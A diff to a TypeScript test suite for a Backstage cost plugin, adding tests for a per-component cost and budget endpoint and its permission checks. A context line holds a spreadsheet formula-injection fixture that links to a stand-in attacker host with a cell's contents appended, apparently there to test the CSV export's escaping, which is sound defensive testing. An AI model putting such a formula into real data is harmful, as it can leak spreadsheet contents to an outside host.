@@ -31,6 +31,31 @@ const CHECKOUT_OWNER = 'user:default/alice';
 const AUDITOR = 'user:default/bob';
 const HIDDEN_FROM_AUDITOR = 'component:default/orders';
 
+/** The scorecards backend, calling with its own service credentials. */
+const SCORECARDS = 'plugin:scorecards';
+
+/**
+ * Components without cost rows (no rows match their default selector,
+ * app=<name>): with a budget annotation, with none, and with one that is
+ * not an amount.
+ */
+const component = (
+  name: string,
+  annotations: Record<string, string> = {},
+): Entity => ({
+  apiVersion: 'backstage.io/v1alpha1',
+  kind: 'Component',
+  metadata: { name, namespace: 'default', annotations },
+  spec: { type: 'service', owner: 'payments-team', lifecycle: 'production' },
+});
+const withoutCost = [
+  component('ledger', { 'paved.dev/cost-budget': '300' }),
+  // stringifyEntityRef writes it in lower case.
+  component('Billing-API', { 'paved.dev/cost-budget': '250.50' }),
+  component('wiki'),
+  component('broken-budget', { 'paved.dev/cost-budget': '12k' }),
+];
+
 /** A title a spreadsheet would run as a formula. */
 const EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Orders")';
 
@@ -45,21 +70,24 @@ const userOf = (options?: { credentials?: BackstageCredentials }) =>
  */
 function catalogWithReadRules(): CatalogService {
   const catalog = catalogServiceMock({
-    entities: organisation.map(e =>
-      e.metadata.name === 'orders'
-        ? {
-            ...e,
-            metadata: {
-              ...e.metadata,
-              title: EVIL_TITLE,
-              annotations: {
-                'prometheus.io/request-rate-query':
-                  'sum(rate(node_cpu_seconds_total[5m]))',
+    entities: [
+      ...organisation.map(e =>
+        e.metadata.name === 'orders'
+          ? {
+              ...e,
+              metadata: {
+                ...e.metadata,
+                title: EVIL_TITLE,
+                annotations: {
+                  'prometheus.io/request-rate-query':
+                    'sum(rate(node_cpu_seconds_total[5m]))',
+                },
               },
-            },
-          }
-        : e,
-    ),
+            }
+          : e,
+      ),
+      ...withoutCost,
+    ],
   });
   const visible = (
     entity: Entity | undefined,
@@ -96,20 +124,24 @@ function catalogWithReadRules(): CatalogService {
 }
 
 /**
- * A policy like Paved's: admins read everything; alice (checkout-team) reads
- * the checkout component only.
+ * A policy like Paved's: admins and the auditor read everything; alice
+ * (checkout-team) reads the checkout component only. Service principals
+ * are allowed, as Backstage's permission client allows them.
  */
 const permissions = mockServices.permissions.mock({
   authorize: async (
     requests: AuthorizePermissionRequest[],
     options?: { credentials: BackstageCredentials },
   ) => {
-    const user = (options?.credentials.principal as { userEntityRef?: string })
-      ?.userEntityRef;
+    const principal = options?.credentials.principal as
+      | { type?: string; userEntityRef?: string }
+      | undefined;
+    const user = principal?.userEntityRef;
     return requests.map(r => ({
       result:
+        principal?.type === 'service' ||
         user === ADMIN ||
-        (user === AUDITOR && 'resourceRef' in r) ||
+        user === AUDITOR ||
         (user === CHECKOUT_OWNER &&
           'resourceRef' in r &&
           r.resourceRef === 'component:default/checkout')
@@ -174,6 +206,7 @@ describe('cost API', () => {
           data: {
             cost: {
               currency: 'EUR',
+              budgets: { 'component:default/checkout': 1200 },
               // Nothing listens there: only refused queries are answered.
               prometheus: { baseUrl: 'http://127.0.0.1:9' },
             },
@@ -184,10 +217,15 @@ describe('cost API', () => {
     stop = () => backend.stop();
     const { port } = backend.server.address() as AddressInfo;
     call = async (path, user = ADMIN) => {
+      let headers = {};
+      if (user === SCORECARDS) {
+        // A service token of the mock auth service, as a backend sends.
+        headers = { authorization: mockCredentials.service.header() };
+      } else if (user) {
+        headers = { authorization: mockCredentials.user.header(user) };
+      }
       const res = await fetch(`http://localhost:${port}/api/cost${path}`, {
-        headers: user
-          ? { authorization: mockCredentials.user.header(user) }
-          : {},
+        headers,
       });
       const text = await res.text();
       let body;
@@ -305,6 +343,69 @@ describe('cost API', () => {
     ).toEqual([]);
   });
 
+  it("gives every component's cost and budget at once, each total what /entity answers for it", async () => {
+    const res = await call(`/components?${window}`, SCORECARDS);
+    expect(res.status).toBe(200);
+    expect(res.body).toEqual({
+      from: '2026-10-01',
+      to: '2026-10-02',
+      currency: 'EUR',
+      components: [
+        // Only a budget annotation: listed with no cost.
+        {
+          entityRef: 'component:default/billing-api',
+          total: 0,
+          budget: { monthly: 250.5, source: 'annotation' },
+        },
+        // Cost rows, and a budget from config.
+        {
+          entityRef: 'component:default/checkout',
+          total: 52,
+          budget: { monthly: 1200, source: 'config' },
+        },
+        {
+          entityRef: 'component:default/ledger',
+          total: 0,
+          budget: { monthly: 300, source: 'annotation' },
+        },
+        { entityRef: 'component:default/orders', total: 13 },
+        { entityRef: 'component:default/payments', total: 32.5 },
+        { entityRef: 'component:default/payments-canary', total: 6.5 },
+        // Left out: alpha and zeta (no cost rows match their selector),
+        // wiki (nothing) and broken-budget (an annotation that is not an
+        // amount is no budget).
+      ],
+    });
+    for (const { entityRef, total } of res.body.components) {
+      const one = await call(`/entity?entityRef=${entityRef}&${window}`);
+      expect(total).toBe(one.body.total);
+    }
+    // The same for a user allowed organisation-wide cost.
+    expect((await call(`/components?${window}`)).body).toEqual(res.body);
+  });
+
+  it("lists only the components the caller's catalog read rules let it see", async () => {
+    const res = await call(`/components?${window}`, AUDITOR);
+    expect(res.status).toBe(200);
+    expect(
+      res.body.components.map((c: { entityRef: string }) => c.entityRef),
+    ).toEqual([
+      'component:default/billing-api',
+      'component:default/checkout',
+      'component:default/ledger',
+      'component:default/payments',
+      'component:default/payments-canary',
+    ]);
+  });
+
+  it('refuses the component list to a user without organisation-wide cost', async () => {
+    const res = await call(`/components?${window}`, CHECKOUT_OWNER);
+    expect(res.status).toBe(403);
+    expect(res.body.error.message).toBe(
+      'You may not read organisation-wide cost',
+    );
+  });
+
   it('lists unattributed rows with their labels for admins', async () => {
     const res = await call(`/unattributed?${window}`);
     expect(res.body).toMatchObject({
@@ -364,6 +465,7 @@ describe('cost API', () => {
       `/entity?entityRef=component:default/checkout&${window}`,
       `/rankings?entityRef=group:default/checkout-team`,
       '/unattributed',
+      '/components',
       '/export.csv',
       '/sources',
     ]) {
@@ -397,6 +499,8 @@ describe('cost API', () => {
     ['/entity?entityRef=', 'entityRef'],
     ['/rankings', 'entityRef'],
     ['/rankings?entityRef=component:default/checkout', 'group or a system'],
+    ['/components?from=2026-13-01', 'from'],
+    ['/components?from=2026-10-05&to=2026-10-01', 'from must be before to'],
   ])('answers %s with 400 naming %s', async (path, name) => {
     const res = await call(path);
     expect(res.status).toBe(400);
@@ -411,6 +515,7 @@ describe('cost API', () => {
       'at most 731 days',
     ],
     ['/unattributed?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
+    ['/components?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
     ['/export.csv?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
     ['/entity?from=2026-10-01T00:00:00', 'from must be a YYYY-MM-DD day'],
     ['/entity?to=2026-10-02T12:00:00Z', 'to must be a YYYY-MM-DD day'],
@@ -490,6 +595,7 @@ describe('cost API', () => {
     expect(res.status).toBe(200);
     expect(Object.keys(res.body.paths).sort()).toEqual(
       [
+        '/components',
         '/entity',
         '/export.csv',
         // Served by the FOCUS module under the cost plugin's path.
